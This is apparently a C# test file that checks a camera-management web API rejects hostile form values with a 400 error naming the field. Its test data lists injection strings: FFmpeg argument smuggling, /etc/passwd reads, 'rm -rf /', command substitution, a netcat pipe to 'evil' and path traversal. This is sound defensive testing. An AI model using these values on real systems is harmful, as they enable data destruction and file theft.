using System.Net;
using System.Net.Http.Json;
using System.Text.Json;

namespace CamStudio.Tests.Web.Security;

/// <summary>
/// Values typed into the camera form that try to change FFmpeg's arguments, protocol or target are refused by the
/// API with a 400 naming the field (the argument builder's own defence is in FfmpegArgumentsTests).
/// </summary>
public sealed class HostileCameraFieldTests : IAsyncLifetime
{
    private readonly CamStudioAppFactory _app = new();
    private HttpClient _client = null!;

    public static TheoryData<string, string> HostileValues() => new()
    {
        { "ip_address", "-f lavfi" },
        { "ip_address", "127.0.0.1 -i x" },
        { "ip_address", "file:/etc/passwd" },
        { "ip_address", "127.0.0.1\n-i /etc/passwd" },
        { "ip_address", "cam;rm -rf /" },
        { "ip_address", "$(reboot)" },
        { "ip_address", "`id`" },
        { "ip_address", "cam|nc evil 1" },
        { "hd_path", "-f lavfi" },
        { "hd_path", "/stream1 -i file:/etc/passwd" },
        { "hd_path", "file:/etc/passwd" },
        { "hd_path", "/x\n-f lavfi" },
        { "hd_path", "/a;rm -rf /" },
        { "sd_path", "../../etc/passwd" },
        { "sd_path", "/a`id`" },
        { "username", "admin\n-i x" },
    };

    [Theory]
    [MemberData(nameof(HostileValues))]
    public async Task Hostile_values_are_rejected_with_the_field_named(string field, string value)
    {
        var body = new Dictionary<string, object> { ["name"] = "Hostile " + Guid.NewGuid().ToString("N")[..6], ["ip_address"] = "10.0.0.9" };
        body[field] = value;

        using HttpResponseMessage response = await _client.PostAsJsonAsync("/api/cameras/create", body);

        response.StatusCode.Should().Be(HttpStatusCode.BadRequest, value);
        JsonElement problem = await response.Content.ReadFromJsonAsync<JsonElement>();
        problem.GetProperty("errors").TryGetProperty(field, out _).Should().BeTrue($"the problem names {field}: {problem}");
        (await _client.GetFromJsonAsync<JsonElement>("/api/cameras")).GetArrayLength().Should().Be(0, "nothing was stored");
    }

    public Task InitializeAsync()
    {
        _client = _app.CreateClient();
        return Task.CompletedTask;
    }

    public async Task DisposeAsync()
    {
        _client.Dispose();
        await _app.DisposeAsync();
    }
}
